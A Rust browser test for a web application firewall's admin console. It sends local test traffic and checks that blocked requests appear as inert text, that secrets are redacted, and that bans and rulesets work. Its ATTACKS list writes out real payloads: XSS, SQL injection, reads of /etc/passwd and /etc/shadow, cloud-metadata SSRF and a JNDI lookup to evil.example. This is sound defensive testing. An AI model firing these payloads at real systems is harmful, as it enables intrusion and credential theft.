//! The console in a real browser: it shows attacks as text, lives, and is used by keyboard.
//!
//! `PORTCULLIS_BLESS=1` takes the pictures of the guide anew.

#![cfg(all(feature = "server", unix))]

mod support;

use serde_json::json;
use std::path::{Path, PathBuf};
use std::time::Duration;
use support::authority::has;
use support::binary::{Binary, TOKEN};
use support::browser::Browser;
use support::origin::Origin;

struct Shop {
    binary: Binary,
    console: String,
    _origin: Origin,
}

fn start(admin: &str) -> Shop {
    start_with(admin, "", "")
}

/// With more settings at the top, and of the site `shop`.
fn start_with(admin: &str, top: &str, shop: &str) -> Shop {
    let origin = Origin::echo();
    let url = origin.url();
    let text = format!(
        "listeners: ['127.0.0.1:0']
admin: {admin}
audit: {{log: 'off'}}
reload: {{watch: false}}
trusted_proxies: [127.0.0.1]
{top}
sites:
  - {{name: shop, hosts: [shop.test], upstreams: '{url}', rules: ['@portcullis-core'], patches: ['*']{shop}}}
  - {{name: wiki, hosts: [wiki.test], upstreams: '{url}', rules: ['@portcullis-core'], mode: DetectionOnly}}
"
    );
    let odd = "SecRule ARGS:odd \"@streq 7\" \"id:77,phase:2,deny,status:406,log,auditlog,msg:'Odd'\"\n";
    let binary = Binary::start(&[("odd.conf", odd)], &text);
    let console = format!("http://{}/", binary.admin);
    Shop { binary, console, _origin: origin }
}

impl Shop {
    fn get(&self, host: &str, client: &str, target: &str) -> u16 {
        let head = format!(
            "Host: {host}\r\nX-Forwarded-For: {client}\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0)\r\n\
             Accept: */*\r\nCookie: session=0123456789abcdef\r\nConnection: close"
        );
        self.binary.send(format!("GET {target} HTTP/1.1\r\n{head}\r\n\r\n")).status
    }

    /// What a shop sees on a bad day.
    fn traffic(&self, rounds: usize) {
        for round in 0..rounds {
            for (n, path) in PAGES.iter().enumerate() {
                self.get("shop.test", &format!("203.0.113.{}", n * 7 + round % 5), path);
            }
            for (n, attack) in ATTACKS.iter().enumerate() {
                if n % 4 != round % 4 {
                    continue;
                }
                let host = if n % 5 == 4 { "wiki.test" } else { "shop.test" };
                self.get(host, &format!("198.51.100.{}", n % 6 + 1), attack);
            }
        }
    }
}

const PAGES: [&str; 7] =
    ["/", "/search?q=lighthouse", "/cart", "/products/17", "/static/app.js", "/api/items?page=2", "/account"];

/// Each of them would be seen if it ran in the console.
const ATTACKS: [&str; 16] = [
    "/search?q=%3Cscript%3Ewindow.pwned%3D1%3C/script%3E",
    "/search?q=1%27%20OR%201%3D1%20--%20",
    "/profile?name=%3Cimg%20src%3Dx%20onerror%3D%22window.pwned%3D1%22%3E",
    "/login?user=admin%27%20UNION%20SELECT%20password%20FROM%20users--",
    "/search?q=%22%3E%3Csvg/onload%3Dwindow.pwned%3D1%3E",
    "/download?file=../../../../etc/passwd",
    "/a%22onfocus=%22window.pwned=1%22autofocus=%22?q=%3Cscript%3Ewindow.pwned%3D1%3C/script%3E",
    "/ping?host=127.0.0.1%3B%20cat%20/etc/shadow",
    "/%3C/title%3E%3Cscript%3Ewindow.pwned=1%3C/script%3E?q=%3Cscript%3Ealert%281%29%3C/script%3E",
    "/fetch?url=http%3A//169.254.169.254/latest/meta-data/",
    "/?next=javascript:window.pwned%3D1//%3Cscript%3E",
    "/index.php?page=php%3A//filter/convert.base64-encode/resource%3Dconfig",
    "/?x=%24%7Bjndi%3Aldap%3A//evil.example/a%7D",
    "/?f=%E2%80%AEgpj.exe%00%FF%1B%5B31m%3Cscript%3E",
    "/?q=%7B%7Bconstructor.constructor%28%27window.pwned%3D1%27%29%28%29%7D%7D%3Cscript%3E",
    "/login?password=sesame-open-sesame&user=x%27%20OR%20%27a%27%3D%27a",
];

fn is_blessing() -> bool {
    std::env::var_os("PORTCULLIS_BLESS").is_some()
}

/// Where a picture goes: into the guide when it is to be renewed, elsewhere otherwise.
fn place(name: &str) -> PathBuf {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    if is_blessing() {
        return root.join("docs/img").join(name);
    }
    Path::new(env!("CARGO_TARGET_TMPDIR")).join(name)
}

/// Pixels in which the whole overview has room.
const TALL: u32 = 1600;

const ENTER: &str = "\u{e007}";
const ESCAPE: &str = "\u{e00c}";
const TAB: &str = "\u{e004}";

/// Texts that stand out from what is behind them by less than WCAG 2's level AA asks for: 4.5, or 3 where letters are large.
const FAINT: &str = "
    const canvas = document.createElement('canvas').getContext('2d', {willReadFrequently: true});
    const paint = (colour, alpha) => { canvas.globalAlpha = alpha; canvas.fillStyle = colour; canvas.fillRect(0, 0, 1, 1); };
    const shown = () => [...canvas.getImageData(0, 0, 1, 1).data].slice(0, 3);
    const light = (rgb) => rgb.map((c) => c / 255).map((c) => c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4)
        .reduce((sum, c, at) => sum + c * [0.2126, 0.7152, 0.0722][at], 0);
    const open = document.querySelector('dialog[open]');
    const faults = new Map();
    const texts = document.createTreeWalker(open ?? document.body, NodeFilter.SHOW_TEXT);
    while (texts.nextNode()) {
        const text = texts.currentNode.textContent.trim(), element = texts.currentNode.parentElement;
        const box = element.getBoundingClientRect();
        if (!text || !element.checkVisibility({visibilityProperty: true}) || box.width < 2 || element.closest('.unseen, :disabled, .skip')) continue;
        const chain = [];
        for (let e = element; e; e = e.parentElement) chain.unshift(getComputedStyle(e));
        paint('#ffffff', 1);
        chain.forEach((style) => paint(style.backgroundColor, 1));
        const behind = shown(), style = chain.at(-1);
        paint(element instanceof SVGElement ? style.fill : style.color, chain.reduce((alpha, s) => alpha * Number(s.opacity), 1));
        const [dark, bright] = [light(behind), light(shown())].sort((a, b) => a - b);
        const ratio = (bright + 0.05) / (dark + 0.05), size = parseFloat(style.fontSize);
        const least = size >= 24 || (size >= 18.66 && Number(style.fontWeight) >= 700) ? 3 : 4.5;
        if (ratio < least) faults.set(`${element.tagName}.${element.getAttribute('class')}`, `${text.slice(0, 40)}: ${ratio.toFixed(2)}`);
    }
    return [...faults].map((fault) => fault.join(' '));";

/// Every view in both themes: on a narrow telephone, and on a screen enlarged to twice the size, nothing is cut off, and all
/// can be read.
fn every_view_fits_and_can_be_read(browser: &Browser) {
    for view in ["", "transactions", "posture", "patches", "bans"] {
        browser.run(&format!("location.hash = '#/{view}'"));
        browser.until("document.querySelector('main .card, main .heading')");
        for theme in ["dark", "light"] {
            for width in [360, 640, 1280] {
                browser.look(width, 900, theme);
                std::thread::sleep(Duration::from_millis(250));
                let what = format!("{view}, {width} pixels, {theme}");
                fits(browser, &what);
                assert_eq!(browser.run(FAINT), json!([]), "{what}");
                browser.picture(
                    &Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("view-{view}-{width}-{theme}.png")),
                );
            }
        }
    }
    browser.run("location.hash = '#/'");
    browser.until("document.querySelector('#live')");
    let moving = "document.getAnimations().filter((a) => a.playState === 'running').length";
    browser.until(&format!("{moving} > 0"));
    browser.calm(true);
    browser.until(&format!("{moving} === 0"));
    browser.look(1280, 900, "dark");
}

/// Nothing of the page is wider than the window.
fn fits(browser: &Browser, what: &str) {
    let wide = "return document.documentElement.scrollWidth - document.documentElement.clientWidth";
    assert_eq!(browser.run(wide), json!(0), "{what}");
}

#[test]
fn the_console_shows_attacks_as_text_lives_and_is_used_by_keyboard() {
    if !has("chromedriver") || !has("chromium") {
        return;
    }
    let server = start(&format!("{{address: '127.0.0.1:0', token: {TOKEN}}}"));
    server.traffic(4);
    let browser = Browser::start();
    browser.look(1280, 900, "light");

    // Signing in.
    browser.go(&server.console);
    browser.until("document.activeElement?.id === 'token'");
    browser.press(&format!("not-{TOKEN}{ENTER}"));
    browser.until("document.body.innerText.includes('That is not the token.')");
    browser.press(&format!("{TOKEN}{ENTER}"));
    browser.until("document.querySelector('.tile')");
    let storage =
        browser.run("return JSON.stringify([localStorage, sessionStorage, document.cookie])").to_string();
    assert!(storage.contains("session-") && !storage.contains(TOKEN), "{storage}");
    let said = browser.said();
    assert!(said.iter().all(|line| line.contains("401")), "{said:#?}");

    // It lives: what comes now is seen without asking.
    browser.until("document.querySelector('#live').dataset.state === 'live'");
    assert_eq!(server.get("shop.test", "192.0.2.99", "/only-now"), 200);
    browser.until("document.querySelector('.live').innerText.includes('/only-now')");
    assert_eq!(
        server.get("shop.test", "192.0.2.99", "/this-one?q=%3Cscript%3Ewindow.pwned%3D1%3C/script%3E"),
        403
    );
    let shown = "/this-one?q=<script>window.pwned=1</script>";
    browser.until(&format!("document.querySelector('.overview .rows').innerText.includes('{shown}')"));
    server.traffic(20);
    if is_blessing() {
        // Pictures want something to show: a few minutes, now more and now less.
        for step in 0..18_usize {
            let begun = std::time::Instant::now();
            server.traffic(2 + (step * step) % 9 + step / 2);
            std::thread::sleep(Duration::from_secs(10).saturating_sub(begun.elapsed()));
        }
    }
    browser.until("document.querySelectorAll('.top .share').length > 8");
    std::thread::sleep(Duration::from_millis(2_500));
    browser.until("document.querySelectorAll('.drawing rect[class^=hue]').length > 4");
    for (width, height) in [(1280, TALL), (400, TALL)] {
        for theme in ["dark", "light"] {
            browser.look(width, height, theme);
            std::thread::sleep(Duration::from_millis(300));
            fits(&browser, "overview");
            if width == 1280 {
                let last = "return Math.ceil(document.querySelector('main').getBoundingClientRect().bottom)";
                let bottom = browser.run(last).as_u64().expect("pixels");
                assert!(bottom <= u64::from(TALL), "the picture has all of it: {bottom} pixels");
            }
            browser.picture(&place(&format!("console-{width}-{theme}.png")));
        }
    }

    every_view_fits_and_can_be_read(&browser);

    // One site of several.
    let total = "[...document.querySelectorAll('.legend .key b')].map((b) => b.innerText)[0]";
    let of_all = browser.run(&format!("return {total}"));
    browser.run(
        "const sites = document.querySelector('.overview select'); sites.value = 'wiki'; sites.dispatchEvent(new Event('change'))",
    );
    browser.until(&format!("{total} !== {of_all}"));
    browser.until("document.querySelector('.overview h2').innerText === 'Detections by category'");
    browser.until("document.querySelector('.at-work').innerText.includes('Detecting')");
    browser.until("!document.querySelector('.overview .rows').innerText.includes('203.0.113.')");
    assert_eq!(server.get("shop.test", "192.0.2.99", "/of-the-shop"), 200);
    assert_eq!(server.get("wiki.test", "192.0.2.99", "/of-the-wiki"), 200);
    browser.until("document.querySelector('.live').innerText.includes('/of-the-wiki')");
    assert_eq!(
        browser.run("return document.querySelector('.live').innerText.includes('/of-the-shop')"),
        json!(false)
    );
    browser.run(
        "const sites = document.querySelector('.overview select'); sites.value = ''; sites.dispatchEvent(new Event('change'))",
    );
    browser.until("document.querySelector('.overview h2').innerText === 'Blocks by category'");

    // By keyboard alone.
    browser.look(1280, 900, "dark");
    browser.run("document.activeElement?.blur(); window.scrollTo(0, 0)");
    browser.press("2");
    browser.until("document.querySelectorAll('.record').length > 20");
    fits(&browser, "transactions");
    browser.press("j");
    browser.until("document.activeElement.matches('.record')");
    let outline = browser.run("return getComputedStyle(document.activeElement).outlineStyle");
    assert_eq!(outline, json!("solid"), "the focus is seen");
    browser.press(ENTER);
    browser.until("document.querySelector('#sheet').open && document.querySelector('#sheet mark')");
    browser.picture(&place("console-transaction.png"));
    for (width, theme) in [(360, "light"), (1280, "light"), (1280, "dark")] {
        browser.look(width, 900, theme);
        std::thread::sleep(Duration::from_millis(250));
        fits(&browser, "a transaction");
        assert_eq!(browser.run(FAINT), json!([]), "a transaction, {theme}");
        let name = format!("view-transaction-{width}-{theme}.png");
        browser.picture(&Path::new(env!("CARGO_TARGET_TMPDIR")).join(name));
    }
    browser.press(ESCAPE);
    browser.until("!document.querySelector('#sheet').open && location.hash === '#/transactions'");
    browser.press("/");
    browser.until("document.activeElement.matches('[data-filter]')");
    browser.press(&format!("/profile{ENTER}"));
    browser.until("document.querySelector('.chip')?.innerText.includes('/profile')");
    browser.until(
        "[...document.querySelectorAll('.record .uri')].every((uri) => uri.title.startsWith('/profile'))",
    );
    browser.run("document.querySelector('.record').click()");
    browser.until("document.querySelector('#sheet .match')?.innerText.includes('<img src=x onerror=')");
    browser.until(
        "document.querySelector('#sheet .exclusion')?.innerText.includes('ctl:ruleRemoveTargetById=')",
    );
    browser.press(ESCAPE);
    browser.until("!document.querySelector('#sheet').open");
    browser.press("?");
    browser.until("document.querySelector('#keys').open");
    browser.press(ESCAPE);
    browser.press("t");
    browser.until("document.documentElement.dataset.theme === 'light'");
    browser.press("tt");
    browser.until("!document.documentElement.dataset.theme");
    browser.press("p");
    browser.until("document.querySelector('#live').innerText === 'Paused'");
    browser.press("p");
    browser.until("document.querySelector('#live').innerText === 'Live'");
    browser.press("3");
    browser.until("document.querySelectorAll('.site').length === 2");
    fits(&browser, "posture");
    browser.picture(&place("console-posture.png"));
    browser.run("[...document.querySelectorAll('button')].find((b) => b.innerText === 'Reload').click()");
    browser.until("document.querySelector('#toast').innerText === 'Nothing has changed'");
    browser.until("document.querySelector('.posture').innerText.includes('nothing had changed')");
    browser.press("4");
    browser.until("document.querySelectorAll('.patch').length > 10");
    fits(&browser, "patches");
    browser.run("document.querySelector('.patch summary').click()");
    browser.until("document.querySelector('.patch').open");
    browser.picture(&place("console-patches.png"));
    browser.press("1");
    browser.until("document.querySelector('.chart rect')");
    browser.run("document.querySelector('.chart').focus()");
    browser.press("\u{e012}");
    browser.until("!document.querySelector('.tip').hidden && document.querySelector('.tip').innerText.includes('Requests')");

    // Every attack, in the list and opened: nothing of it runs, nothing of it is an element, nothing is hidden.
    browser.press("2");
    browser.until("document.querySelectorAll('.record').length > 20");
    let texts = browser.run("return document.querySelector('main').innerText").to_string();
    for seen in
        ["<script>window.pwned=1</script>", "<img src=x", "javascript:window.pwned=1", r"\\u{202e}gpj.exe"]
    {
        assert!(texts.contains(seen), "{seen}: {texts}");
    }
    let opened = browser.run(
        "const ids = new Map();
         for (const row of document.querySelectorAll('.record')) ids.set(row.querySelector('.uri').title, row.dataset.row);
         return [...ids.values()]",
    );
    let opened = opened.as_array().expect("a list");
    assert!(opened.len() >= ATTACKS.len() - 2, "{}", opened.len());
    let mut everything = texts;
    for id in opened {
        let id = id.as_str().expect("an id");
        browser.run(&format!("location.hash = '#/t/{id}'"));
        browser.until(&format!("document.querySelector('#sheet .identity')?.innerText.includes('{id}') && document.querySelector('#sheet .rules')"));
        everything.push_str(
            browser.run("return document.querySelector('#sheet').textContent").as_str().expect("text"),
        );
    }
    assert!(!everything.contains("sesame-open-sesame"), "secrets are redacted");
    assert!(!everything.contains('\u{202e}') && !everything.contains('\0'));
    let strange = "return document.querySelectorAll('main script, main img, main iframe, dialog script, dialog img, [onerror], [onload], [onfocus], a[href^=javascript]').length";
    assert_eq!(browser.run(strange), json!(0));
    assert_eq!(browser.run("return window.pwned ?? null"), json!(null));
    browser.press(ESCAPE);

    // Everything that can be pressed has a name, and the first of it leads past the bar.
    let nameless = "return [...document.querySelectorAll('button, a, input, select')].filter((e) =>
        !(e.innerText || e.getAttribute('aria-label') || e.labels?.length || e.closest('label'))).map((e) => e.outerHTML)";
    assert_eq!(browser.run(nameless), json!([]));
    browser.go("about:blank");
    browser.go(&format!("{}#/patches", server.console));
    browser.until("document.querySelectorAll('.patch').length > 10");
    browser.run("document.activeElement?.blur()");
    browser.press(TAB);
    browser.until("document.activeElement.matches('.skip')");
    browser.press(ENTER);
    browser.until("document.activeElement.id === 'main'");

    assert_eq!(browser.said(), Vec::<String>::new());

    // Should markup ever come in, it would not run.
    let inline = "const s = document.createElement('script'); try { s.textContent = 'window.inline = 1' } catch {}
        document.body.append(s); try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.inline=1>') } catch {}
        return window.inline ?? null";
    assert_eq!(browser.run(inline), json!(null));
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(browser.run("return window.inline ?? null"), json!(null));

    // Signed out, nothing is left.
    browser.run("document.querySelector('#leave').click()");
    browser.until("document.querySelector('#token')");
    assert_eq!(
        browser.run("return sessionStorage.length + document.querySelectorAll('.tile').length"),
        json!(0)
    );
}

/// From another machine over plain HTTP a page has no clipboard of its own; what is copied is the same.
#[test]
fn exclusions_are_copied_in_secure_contexts_and_elsewhere() {
    if !has("chromedriver") || !has("chromium") {
        return;
    }
    let server = start(&format!("{{address: '127.0.0.1:0', token: {TOKEN}, hosts: [waf.test]}}"));
    assert_eq!(server.get("shop.test", "192.0.2.99", ATTACKS[1]), 403);
    let elsewhere = format!("http://waf.test:{}/", server.binary.admin.port());
    let browser = Browser::start();
    browser.look(1280, 900, "dark");
    let mut copied = Vec::new();
    for (console, is_secure, syntax) in [(&server.console, true, "SecLang"), (&elsewhere, false, "YAML")] {
        browser.go(console);
        assert_eq!(
            browser.run("return [window.isSecureContext, navigator.clipboard !== undefined]"),
            json!([is_secure, is_secure])
        );
        browser.until("document.activeElement?.id === 'token'");
        browser.press(&format!("{TOKEN}{ENTER}"));
        browser.until("document.querySelector('.tile')");
        browser.press("2");
        browser.until("document.querySelector('.record')");
        browser.run("document.querySelector('.record').click()");
        browser.until("document.querySelector('#sheet .exclusion')?.innerText.length > 0");
        browser.run(&format!("document.querySelector('#sheet input[value={syntax}]').click()"));
        let exclusion = browser.run("return document.querySelector('#sheet .exclusion').textContent");
        // By its key, as a person presses it: a script's own press may not copy.
        browser.run("document.querySelector('#sheet .tabs .copy').focus()");
        browser.press(ENTER);
        browser.until("document.querySelector('#toast').innerText === 'Copied the exclusion'");
        browser.until("document.activeElement.matches('#sheet .tabs .copy')");
        assert_eq!(browser.run("return document.querySelectorAll('textarea').length"), json!(0));
        // What Chromium says of a page over plain HTTP.
        let mut said = browser.said();
        said.retain(|line| !line.contains("Cross-Origin-Opener-Policy"));
        assert_eq!(said, Vec::<String>::new());
        browser.go(&format!("{}healthz", server.console));
        copied.push(browser.clipboard());
        assert_eq!(json!(copied.last()), exclusion, "in {console}");
    }
    assert!(copied[0].contains("SecRule") && copied[1].contains("exclusions:"), "{copied:#?}");
}

#[test]
fn without_a_token_it_shows_and_changes_nothing() {
    if !has("chromedriver") || !has("chromium") {
        return;
    }
    let server = start("{address: '127.0.0.1:0'}");
    let browser = Browser::start();
    browser.look(1280, 900, "dark");
    browser.go(&server.console);
    browser.until("document.querySelector('.tile')");
    browser.until("document.body.innerText.includes('Nothing has been blocked yet')");
    browser.press("2");
    browser.until("document.body.innerText.includes('Nothing to show yet')");
    browser.press("3");
    browser.until("document.body.innerText.includes('Read-only')");
    let buttons =
        browser.run("return [...document.querySelectorAll('button')].map((b) => b.innerText)").to_string();
    assert!(!buttons.contains("Reload") && !buttons.contains("Sign out\\n"), "{buttons}");
    browser.run("location.hash = '#/t/01ARZ3NDEKTSV4RRFFQ69G5FAV'");
    browser.until("document.querySelector('#sheet')?.innerText.includes('portcullis explain 01ARZ3NDEKTSV4RRFFQ69G5FAV')");
    assert!(browser.said().iter().all(|line| line.contains("404")));
}

/// Bans and a candidate ruleset: seen by whoever may look, changed with a token only.
#[test]
fn bans_are_lifted_and_candidates_promoted() {
    if !has("chromedriver") || !has("chromium") {
        return;
    }
    let bans = "bans: {count: blocks, threshold: 3, period: 10m, duration: 15m}";
    let shadow = ", shadow: {sample: 100%, rules: ['@portcullis-core', odd.conf]}";
    let server = start_with(&format!("{{address: '127.0.0.1:0', token: {TOKEN}}}"), bans, shadow);
    let attack = ATTACKS[1];
    for _ in 0..4 {
        server.get("shop.test", "198.51.100.66", attack);
        server.get("shop.test", "2001:db8:7::66", attack);
    }
    for n in 0..20 {
        assert_eq!(server.get("shop.test", "203.0.113.5", &format!("/?page={n}&odd={}", n % 10)), 200);
    }
    assert_eq!(server.get("shop.test", "198.51.100.66", "/"), 403, "banned");

    let browser = Browser::start();
    browser.look(1280, 900, "dark");
    browser.go(&server.console);
    browser.until("document.activeElement?.id === 'token'");
    browser.press(&format!("{TOKEN}{ENTER}"));
    browser.until("document.querySelector('.tile')");
    browser.press("5");
    browser.until("document.querySelectorAll('.bans tbody tr').length === 2");
    fits(&browser, "bans");
    browser.picture(&place("console-bans.png"));
    browser.run("document.querySelector('[aria-label=\"Lift the ban of 198.51.100.66\"]').click()");
    browser.until("document.querySelectorAll('.bans tbody tr').length === 1");
    browser.until("document.querySelector('#toast').innerText === '198.51.100.66 may come back'");
    assert_eq!(server.get("shop.test", "198.51.100.66", "/"), 200);

    browser.press("3");
    browser.until("document.querySelector('.candidate')?.innerText.includes('Newly blocked\\n2')");
    fits(&browser, "posture");
    browser.run("document.querySelector('.candidate').scrollIntoView({block: 'center'})");
    browser.run(
        "[...document.querySelectorAll('.candidate button')].find((b) => b.innerText === 'Promote…').click()",
    );
    browser.until("document.querySelector('.ask').open");
    browser
        .run("[...document.querySelectorAll('.ask button')].find((b) => b.innerText === 'Promote').click()");
    browser.until("document.querySelector('.ask .problem').innerText.includes('Too little evidence')");
    browser.picture(&place("console-promote.png"));
    assert_eq!(server.get("shop.test", "203.0.113.5", "/?odd=7"), 200, "nothing has changed");
    assert_eq!(browser.run("return document.activeElement.innerText"), json!("Promote all the same"));
    browser.press(ENTER);
    browser.until("!document.querySelector('.ask')");
    browser.until("!document.querySelector('.candidate')");
    assert_eq!(server.get("shop.test", "203.0.113.5", "/?odd=7"), 406);
    for width in [400, 1280] {
        browser.look(width, 900, "light");
        for (key, shown) in [("3", ".posture"), ("5", ".bans table")] {
            browser.press(key);
            browser.until(&format!("document.querySelector('{shown}')"));
            fits(&browser, shown);
        }
    }
    browser.look(1280, 900, "dark");
    browser.press("3");
    browser.until("document.querySelector('.posture').innerText.includes('lift bans')");
    browser.until("document.querySelector('.posture').innerText.includes('promote')");
    assert!(
        browser.said().iter().all(|line| line.contains("401") || line.contains("409")),
        "{:?}",
        browser.said()
    );

    // Another page of this browser can do neither: it has no session, and cannot give itself one.
    let other = Origin::echo();
    browser.go(&format!("http://127.0.0.1:{}/", other.address.port()));
    for path in ["/api/bans/lift?all", "/api/promote?site=shop&force=true", "/api/reload"] {
        browser.run(&format!(
            "window.answered = null; fetch('{}{path}', {{method: 'POST', mode: 'no-cors', credentials: 'include'}})
                .then(() => window.answered = 'sent', () => window.answered = 'failed')",
            server.console.trim_end_matches('/')
        ));
        browser.until("window.answered !== null");
    }
    let listed = server.binary.json(&["bans", "list", "--json"]);
    assert!(listed.to_string().contains("2001:db8:7::"), "still banned: {listed}");
}
